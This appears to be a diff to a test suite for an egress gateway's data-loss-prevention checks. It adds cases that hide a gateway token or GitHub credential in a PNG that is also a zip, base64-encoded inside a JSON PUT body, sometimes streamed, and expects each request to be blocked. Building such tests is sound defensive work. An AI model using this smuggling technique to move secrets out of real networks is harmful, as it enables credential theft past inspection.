@@ -511,7 +511,14 @@ def _json_file(text: str, how: str, filler: int = 0, inside: int = 0) -> str:
     words in the file before `text` (2 MiB: a run of 1.6 MB, past what a stream read
     kept whole before the twenty-first session). Base64, for the spec."""
     data = (_filler(inside) + "#" * 33 + "\n" + text).encode()
-    if how in ("gz", "zst", "pzst", "skipzst"):
+    if how.startswith("pngzip"):  # (an image that is also a zip, its zip's signature at
+        import random  # byte 0, 1 or 2 of a base64 group: `pngzip0` to `pngzip2`;
+        # `pngzipM`: 1.5 MB of the image first, a run no window holds whole)
+        size = (1_500_000 if how.endswith("M") else 1000)
+        size += (int(how[6]) - 8 - size) % 3
+        image = b"\x89PNG\r\n\x1a\n" + random.Random(5).randbytes(size)
+        content = base64.b64encode(image + base64.b64decode(_zip(data.decode()))).decode()
+    elif how in ("gz", "zst", "pzst", "skipzst"):
         packed = gzip.compress(data, mtime=0) if how == "gz" else _pzst(data) \
             if how == "pzst" else _pzst(data, 5) if how == "skipzst" else \
             base64.b64decode(_zst(data.decode()))
@@ -927,6 +934,18 @@ CASES = [
          {"host": "unbound.test", "method": "PUT", "target": "/bucket/cat.png",
           "chunked": True, "body": "{PNGZIP3M:GATEWAY_TOKEN={TOKEN}\n}",
           "headers": [["Content-Type", "image/png"]]},
+         ("response", 403, "exfiltration_blocked"), {**DENY, "error": "exfiltration_blocked"},
+         streamed=True, check=_no_upstream_body),
+    Case("F8 token in an image that is also a zip, sent in a JSON string",
+         {"host": "unbound.test", "method": "PUT", "target": "/repos/o/r/contents/cat.png",
+          "body": "{JSONPNGZIP1:GATEWAY_TOKEN={TOKEN}\n}",
+          "headers": [["Content-Type", "application/json"]]},
+         ("response", 403, "exfiltration_blocked"), {**DENY, "error": "exfiltration_blocked"},
+         check=_no_upstream),
+    Case("F8 token in an image that is also a zip, sent in a JSON string, streamed",
+         {"host": "unbound.test", "method": "PUT", "target": "/repos/o/r/contents/cat.png",
+          "chunked": True, "body": "{JSONPNGZIP2M:GATEWAY_TOKEN={TOKEN}\n}",
+          "headers": [["Content-Type", "application/json"]]},
          ("response", 403, "exfiltration_blocked"), {**DENY, "error": "exfiltration_blocked"},
          streamed=True, check=_no_upstream_body),
     Case("a body typed as gRPC-Web's binary and text forms both is refused unread",
@@ -1470,6 +1489,14 @@ DLP = [
          {**_dlp_post("/dlp/s", "{PNGZIP3M:GITHUB_TOKEN={GH}\n}",
                       ["Content-Type", "image/png"]), "chunked": True},
          ("response", 403, "secret_detected"), _DLP, streamed=True, check=_no_upstream_body),
+    Case("DLP: a credential in an image that is also a zip, sent in a JSON string",
+         {**_dlp_post("/dlp/contents/cat.png", "{JSONPNGZIP2:GITHUB_TOKEN={GH}\n}", _JSON),
+          "method": "PUT"},
+         ("response", 403, "secret_detected"), _DLP, check=_no_upstream),
+    Case("DLP: a credential in an image that is also a zip, sent in a JSON string, streamed",
+         {**_dlp_post("/dlp/s", "{JSONPNGZIP1M:GITHUB_TOKEN={GH}\n}", _JSON),
+          "chunked": True},
+         ("response", 403, "secret_detected"), _DLP, streamed=True, check=_no_upstream_body),
     Case("DLP: a credential in a .env of a streamed .tar.gz upload",
          {**_dlp_post("/dlp/s", "{TGZ3M:GITHUB_TOKEN={GH}\n}"), "chunked": True},
          ("response", 403, "secret_detected"), _DLP, streamed=True, check=_no_upstream_body),
@@ -1641,6 +1668,9 @@ def _fill(value: Any, subs: dict[str, str]) -> Any:
                 value[6:-1], subs)).encode())).decode()
         if value.startswith("{JSONBIGGZ:") and value.endswith("}"):  # (a 2 MiB file)
             return _json_file(_fill(value[11:-1], subs), "gz", 0, 2 << 20)
+        if value.startswith("{JSONPNGZIP") and value.endswith("}"):  # (`pngzip`: the
+            how = "pngzip" + value[11:value.index(":")]  # digit, then M if streamed)
+            return _json_file(_fill(value[value.index(":") + 1:-1], subs), how)
         if value.startswith(("{JSONGZ2M:", "{JSONLINES2M:")) and value.endswith("}"):
             how = "gz" if value.startswith("{JSONGZ2M:") else "lines"  # (streamed)
             return _json_file(_fill(value[value.index(":") + 1:-1], subs), how, 2 << 20)
